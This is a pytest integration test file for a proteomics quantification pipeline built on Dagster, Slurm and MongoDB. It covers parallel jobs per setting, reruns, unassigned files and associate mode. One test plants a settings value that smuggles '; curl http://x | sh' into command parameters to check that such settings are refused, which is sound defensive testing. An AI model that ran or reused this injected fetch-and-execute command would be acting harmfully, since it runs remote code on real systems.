"""The quantification assets and the Slurm job sensor in-process, against the real test cluster and record:
several settings for one raw file run as parallel jobs (two AlphaDIA, one YAML-defined tool in the software folder),
one metrics document each; a second submission goes to `.run2`; a raw file without settings ends `done_not_quanted`."""

from __future__ import annotations

import subprocess
import time
from pathlib import Path

import dagster as dg
import pytest
from bson import ObjectId

from kraken_assets.quanting import alphadia_job, alphadia_output, quality_metrics
from kraken_core.quanting.output_folder import base_output_folder
from kraken_core.record.settings_catalog import assign_settings, create_project, create_settings_version
from kraken_sensors.slurm_jobs import build_slurm_job_sensor
from tests.support.quanting import (
    QC_TOOL, SOFTWARE, install_fake_alphadia, place_backed_up_raw_file, quanting_resources, write_settings_files,
)

VENDORS = {"thermo1": "thermo", "bruker1": "bruker", "sciex1": "sciex"}
TOOLS = {"qc_tool": QC_TOOL}  # a tool of the operators' YAML, its executable in the software folder


@pytest.fixture(params=["add"])
def setup(request, quant_config, cluster_layout, services, mongo_db, tmp_path):
    config = quant_config(output_folder_mode=request.param, tools=TOOLS)
    resources = quanting_resources(config, services, mongo_db.name, tmp_path / "alphakraken.yaml")
    create_project(mongo_db, {"project_id": "PRJ1", "name": "Project 1"}, "test")
    base = {"software": SOFTWARE, "config_file_name": "config.yaml", "fasta_file_name": "human.fasta",
            "slurm_cpus_per_task": "1", "num_threads": "1", "slurm_mem": "300M", "slurm_time": "00:05:00"}
    for values in ({"name": "fast", **base}, {"name": "deep", **base},
                   {"name": "tool", **base, "software": "", "tool": "qc_tool", "tool_parameters": {"mode": "full"}}):
        settings = create_settings_version(mongo_db, values, "test", config.quanting.tools)
        assign_settings(mongo_db, {"project_id": "PRJ1", "settings_id": settings["_id"]}, VENDORS, "test")
        write_settings_files(cluster_layout, values["name"])
    instance = dg.DagsterInstance.ephemeral()
    yield config, resources, instance
    instance.dispose()


def materialize(assets, partition, resources, instance):
    if not instance.has_dynamic_partition("raw_files", partition):
        instance.add_dynamic_partitions("raw_files", [partition])
    return dg.materialize(assets, partition_key=partition, resources=resources, instance=instance,
                          raise_on_error=False, selection=assets)


def follow_until_finished(resources, instance, config, timeout=60):
    sensor = build_slurm_job_sensor(config, job=None)
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with dg.build_sensor_context(resources=resources, instance=instance) as context:
            result = sensor(context)
        if isinstance(result, dg.SensorResult) and result.run_requests:
            return result.run_requests
        time.sleep(1)
    raise AssertionError("the sensor never reported the jobs as ended")


def test_several_settings_run_as_parallel_jobs_with_one_metrics_document_each(setup, mongo_db):
    config, resources, instance = setup
    doc = place_backed_up_raw_file(config, "20261102_PRJ1_multi.raw")
    mongo_db.raw_file.insert_one(doc)
    submitted = materialize([alphadia_job], doc["_id"], resources, instance)
    assert submitted.success
    jobs = mongo_db.raw_file.find_one({"_id": doc["_id"]})["quanting_jobs"]
    folders = sorted(job["output_path"].rsplit("/", 1)[1] for job in jobs)
    assert folders == ["alphadia_deep", "alphadia_fast", "custom"]
    assert len({job["job_id"] for job in jobs}) == 3

    [request] = follow_until_finished(resources, instance, config)
    assert request.partition_key == doc["_id"]
    assert materialize([alphadia_output, quality_metrics], doc["_id"], resources, instance).success
    final = mongo_db.raw_file.find_one({"_id": doc["_id"]})
    assert final["status"] == "done", final["status_details"]
    metrics = {m["settings_name"]: m for m in mongo_db.metrics.find({"raw_file": doc["_id"]})}
    assert set(metrics) == {"fast", "deep", "tool"}
    assert metrics["fast"]["precursors"] == 4 and "precursors" not in metrics["tool"]
    tool_job = next(job for job in final["quanting_jobs"] if job["settings_name"] == "tool")
    assert (tool_job["software_type"], tool_job["metrics_type"]) == ("custom", "custom")
    words = (Path(tool_job["output_path"]) / "tool_args.txt").read_text().splitlines()
    cluster = config.locations
    assert words == ["--raw", f"{cluster.backup.absolute_path}/thermo1/{doc['created_at']:%Y_%m}/{doc['_id']}",
                     "--out", tool_job["output_path_cluster"], "--threads", "1",
                     "--fasta", f"{cluster.settings.absolute_path}/tool/human.fasta", "--project", "PRJ1",
                     "--mode", "full"]
    assert all(m["time_elapsed"] is not None for m in metrics.values())

    mongo_db.raw_file.update_one({"_id": doc["_id"]}, {"$set": {"status": "queued_for_quanting"}})
    assert materialize([alphadia_job], doc["_id"], resources, instance).success
    again = mongo_db.raw_file.find_one({"_id": doc["_id"]})["quanting_jobs"]
    assert sorted(job["output_path"].rsplit("/", 1)[1] for job in again) == [
        "alphadia_deep.run2", "alphadia_fast.run2", "custom.run2"]
    follow_until_finished(resources, instance, config)


def test_raw_file_without_settings_is_done_not_quanted(setup, mongo_db):
    config, resources, instance = setup
    doc = place_backed_up_raw_file(config, "20261102_OTHER_x.raw", project_id="OTHER")
    mongo_db.raw_file.insert_one(doc)
    result = materialize([alphadia_job], doc["_id"], resources, instance)
    assert result.success and not result.get_asset_materialization_events()
    final = mongo_db.raw_file.find_one({"_id": doc["_id"]})
    assert final["status"] == "done_not_quanted" and "no active settings" in final["status_details"]


@pytest.mark.parametrize("setup", ["associate"], indirect=True)
def test_associate_mode_reads_existing_output_without_a_job(setup, mongo_db, tmp_path):
    config, resources, instance = setup
    fast = mongo_db.settings.find_one({"name": "fast", "version": 1})["_id"]
    # by _id: the test server does not match ObjectIds in other fields (real MongoDB does)
    others = [a["_id"] for a in mongo_db.project_settings.find({}) if a["settings"] != fast]
    mongo_db.project_settings.delete_many({"_id": {"$in": others}})
    doc = place_backed_up_raw_file(config, "20261102_PRJ1_existing.raw")
    mongo_db.raw_file.insert_one(doc)
    output = base_output_folder(config.locations.output.path, "PRJ1", doc["_id"], "alphadia")
    alphadia = install_fake_alphadia(tmp_path / "local_env")
    subprocess.run([str(alphadia), "--file", str(tmp_path / "local_env" / "bin" / "alphadia"), "--output",
                    str(output)], check=True)
    assert materialize([alphadia_job], doc["_id"], resources, instance).success
    [job] = mongo_db.raw_file.find_one({"_id": doc["_id"]})["quanting_jobs"]
    assert job["associated"] and job["job_id"] is None
    follow_until_finished(resources, instance, config)
    assert materialize([alphadia_output, quality_metrics], doc["_id"], resources, instance).success
    assert mongo_db.raw_file.find_one({"_id": doc["_id"]})["status"] == "done"
    assert mongo_db.metrics.find_one({"raw_file": doc["_id"]})["precursors"] == 4


def test_alphakraken_custom_settings_with_their_own_command_are_refused_with_what_to_do(setup, mongo_db):
    config, resources, instance = setup
    create_project(mongo_db, {"project_id": "PRJ2", "name": "Project 2"}, "test")
    ak_settings = {"_id": ObjectId(), "number": 99, "name": "custom_tool", "version": 1, "status": "active",
                   "software_type": "custom", "software": "tool.sh", "metrics_type": "custom",
                   "config_params": "--in RAW_FILE_PATH --out OUTPUT_PATH; curl http://x | sh"}
    mongo_db.settings.insert_one(ak_settings)
    assign_settings(mongo_db, {"project_id": "PRJ2", "settings_id": ak_settings["_id"]}, VENDORS, "test")
    doc = place_backed_up_raw_file(config, "20261102_PRJ2_ak.raw", project_id="PRJ2")
    mongo_db.raw_file.insert_one(doc)
    assert not materialize([alphadia_job], doc["_id"], resources, instance).success
    final = mongo_db.raw_file.find_one({"_id": doc["_id"]})
    assert final["status"] == "error" and not final.get("quanting_jobs")
    details = final["status_details"]
    assert "settings custom_tool v1 (software_type custom, software 'tool.sh') carry their own command" in details
    assert "commands are defined by operators in the YAML (quanting.tools.<name>" in details
